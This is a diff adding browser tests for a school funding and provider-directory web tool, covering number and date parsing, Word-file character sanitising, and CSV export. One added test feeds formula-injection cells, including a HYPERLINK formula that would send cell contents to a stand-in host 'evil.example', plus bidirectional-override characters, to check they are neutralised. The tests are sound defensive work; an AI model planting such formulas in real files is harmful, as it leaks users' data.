@@ -89,7 +89,9 @@ def test_the_parts_add_up_to_the_year_and_the_year_to_all_pupils(opened: Opened)
     assert pence("One pupil, one term") == (round(year[0] / 6), round(year[1] / 6))
 
 
-@pytest.mark.parametrize("typed", ["", "four", "-1", "4,00", "1.234", "1e3", "NaN", "£", "2000000", HOSTILE])
+@pytest.mark.parametrize(
+    "typed", ["", "four", "-1", "4,00", "4 5", "10 12", "4 0000", "1.234", "1e3", "NaN", "£", "2000000", HOSTILE]
+)
 def test_what_is_no_amount_is_said_beside_its_field_and_gives_no_result(opened: Opened, typed: str) -> None:
     page = opened(FUNDING)
     work_out(page, awpu="4000", premium="1000")
@@ -107,7 +109,18 @@ def test_what_is_no_amount_is_said_beside_its_field_and_gives_no_result(opened: 
     assert shown(page)
 
 
-@pytest.mark.parametrize(("name", "typed"), [("terms", "0"), ("terms", "7"), ("pupils", "1.5"), ("pupils", "0")])
+@pytest.mark.parametrize(
+    ("name", "typed"),
+    [
+        ("terms", "0"),
+        ("terms", "7"),
+        ("pupils", "1.5"),
+        ("pupils", "0"),
+        ("pupils", "1 6"),
+        ("pupils", "10 12"),
+        ("pupils", "1,6"),
+    ],
+)
 def test_a_count_that_cannot_be_is_said_beside_its_field(opened: Opened, name: str, typed: str) -> None:
     page = opened(FUNDING)
     work_out(page, **{"awpu": "4000", "premium": "0", name: typed})
@@ -204,6 +217,24 @@ def test_the_saved_word_file_is_the_sites_own_with_the_names_in_its_fields(opene
     full = fields(content(saved.value))
     assert {"name of the school", "headteacher", "named lead"} <= {title for title, _ in empty}
     assert full == [(title, NAMES.get(title, words)) for title, words in empty]
+
+
+def test_a_word_file_is_xml_whatever_a_school_pastes(opened: Opened) -> None:
+    """Word refuses a file with one character that XML has no place for; what turns words round is left out as well."""
+    page = opened(POLICY)
+    lost = [0xFFFF, 0xFFFE, 0xD800, 0xDC00, 0x0000, 0x001B, 0x0085, 0x202E, 0x2066]
+    kept = [ord("B"), 0xD83D, 0xDE00]
+    units = [ord("A"), *(unit for one in lost for unit in (one, ord("-"))), *kept, 0xD83D]
+    page.locator(".fill").get_by_label("Headteacher", exact=True).evaluate(
+        "(input, units) => { input.value = String.fromCharCode(...units); input.dispatchEvent(new Event('input')); }",
+        units,
+    )
+    with page.expect_download() as saved:
+        page.get_by_role("button", name="Word file").click()
+    found = {"".join(words.split()) for title, words in fields(content(saved.value)) if title == "headteacher"}
+    assert found == {"A" + "-" * len(lost) + "B\U0001f600"}
+    shown = {"".join(words.split()) for words in blank(page, "headteacher").all_inner_texts()}
+    assert shown == found
 
 
 def test_nothing_that_a_school_types_is_stored_or_sent(opened: Opened) -> None:
@@ -400,6 +431,108 @@ def test_a_saved_directory_holds_no_formula_and_is_read_back_as_it_was(opened: O
     contacts = page.locator(".providers dd").nth(6)
     assert contacts.inner_text() == formulas[0]
     assert not problems(page)
+
+
+def saved_rows(page: Page) -> list[list[str]]:
+    """The rows of the file that the page saves, below the names of the columns."""
+    with page.expect_download() as saved:
+        page.locator("[data-save]").click()
+    head, *rows = csv.reader(io.StringIO(content(saved.value).decode("utf-8-sig"), newline=""))
+    assert head == list(COLUMNS)
+    return rows
+
+
+BREAKS = ("\n", "\r", "\r\n", "\u2028", "\u2029")
+
+
+@pytest.mark.parametrize("before", ["", " ", "\t", "\u00a0", '"', "'", "\u200b", "\ufeff", "\u200d", "\r\n"], ids=ascii)
+def test_no_cell_with_lines_is_saved_as_a_formula_and_each_is_read_back_as_it_was(opened: Opened, before: str) -> None:
+    """A safety option of the library stops at the first line; and what a spreadsheet may skip hides no formula."""
+    page = opened(DIRECTORY, prepare=at_noon)
+    starts = ("=1+1", '=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(1)", "\uff1d1", "\uff20SUM(1)")
+    cells = [f"{before}{start}{line}note" for start in starts for line in BREAKS]
+    choose(page, sheet(*[provider(f"P{i:02}", Contact=cell) for i, cell in enumerate(cells)]))
+    first = [row[COLUMNS.index("Contact")] for row in saved_rows(page)]
+    assert len(first) == len(cells)
+    assert {cell[0] for cell in first} == {"'"}
+    read = page.locator(".providers li").evaluate_all("all => all.map(li => li.querySelectorAll('dd')[6].textContent)")
+    choose(page, sheet(*[provider(f"P{i:02}", Contact=cell) for i, cell in enumerate(first)]))
+    assert not page.locator(".wrong-rows").is_visible()
+    again = page.locator(".providers li").evaluate_all("all => all.map(li => li.querySelectorAll('dd')[6].textContent)")
+    assert again == read
+    assert [row[COLUMNS.index("Contact")] for row in saved_rows(page)] == first
+
+
+@pytest.mark.parametrize(
+    ("line", "separator"),
+    [
+        ("sep=,\n", ","),
+        ("sep=;\r\n", ";"),
+        ('"SEP=|"\n', "|"),
+        ("sep=\t\n", "\t"),
+        ("sep=,,,,,,,,\n", ","),
+        ("sep=;\n", ","),
+    ],
+)
+def test_the_line_that_tells_a_spreadsheet_its_separator_is_no_row(opened: Opened, line: str, separator: str) -> None:
+    page = opened(DIRECTORY, prepare=at_noon)
+    rows = sheet(provider("Right"), provider("Late", "soon")).decode().replace(",", separator)
+    choose(page, (line + rows).encode())
+    assert names(page) == ["Late", "Right"]
+    assert [said.split(":")[0] for said in problems(page)] == ["Row 3"]
+
+
+def test_a_cell_of_a_hundred_thousand_letters_is_cut_on_the_page_and_saved_whole(opened: Opened) -> None:
+    page = opened(DIRECTORY, prepare=at_noon)
+    long = "A" * 100_000
+    head = (*COLUMNS, long)
+    choose(page, sheet(provider(long, Contact="\U0001f600" * 400, Registered=long), provider("B", long), head=head))
+    assert {said.split(":")[0] for said in problems(page)} == {"Row 1", "Row 2", "Row 3"}
+    assert max(map(len, problems(page))) < 1_000
+    assert max(len(words) for words in page.locator(".providers").locator("h3, dt, dd").all_inner_texts()) < 1_000
+    assert "\ufffd" not in page.locator(".providers").inner_text()
+    first, second = saved_rows(page)
+    assert (first[0], first[6], first[7]) == (long, "unknown", "\U0001f600" * 400)
+    assert second[-1] == long
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    ["\u202e", "\u202a", "\u2067", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u00ad", "\U000e0041"],
+    ids=ascii,
+)
+def test_what_turns_words_round_or_is_not_seen_is_left_out_and_named(opened: Opened, hidden: str) -> None:
+    page = opened(DIRECTORY, prepare=at_noon)
+    choose(page, sheet(provider("Right"), provider(f"Wil{hidden}low", f"{hidden}2026-09-01", Area=f"{hidden}")))
+    assert names(page) == ["Right", "Willow"]
+    assert [said.split(" holds")[0] for said in problems(page)] == [
+        "Row 3: Name", "Row 3: Area", "Row 3: Last checked"
+    ]  # fmt: skip
+    assert hidden not in page.locator(".directory").inner_text()
+    assert hidden not in str(saved_rows(page))
+    assert saved_rows(page)[1][-1] == "2026-09-01"
+
+
+@pytest.mark.parametrize(
+    "written",
+    ["21/11/2025", "21/11/25", "21-Nov-25", "21-Nov-2025", "21 Nov 25", "21 November 2025", "21-Sept-25", "2025-11-21",
+     "21.11.2025", "2025-11-21 00:00:00", "21/11/2025 00:00", "2025-11-21T09:30:00.000Z"],
+)  # fmt: skip
+def test_a_date_is_read_as_a_british_spreadsheet_writes_it(opened: Opened, written: str) -> None:
+    page = opened(DIRECTORY, prepare=at_noon)
+    choose(page, sheet(provider("Known", written)))
+    assert not problems(page)
+    assert saved_rows(page)[0][-1] == ("2025-09-21" if "Sept" in written else "2025-11-21")
+
+
+@pytest.mark.parametrize(
+    "written", ["26-11-21", "11/21/2025", "Nov-25", "46347", "31-Feb-25", "21-Juin-25", "21/11", "1e5"]
+)
+def test_what_may_be_two_days_or_none_is_no_date(opened: Opened, written: str) -> None:
+    page = opened(DIRECTORY, prepare=at_noon)
+    choose(page, sheet(provider("Unknown", written)))
+    assert [said.split(":")[0] for said in problems(page)] == ["Row 2"]
+    assert page.locator(".providers li.stale").count() == 1
 
 
 def test_an_entry_can_be_marked_as_checked_today_and_saved(opened: Opened) -> None:
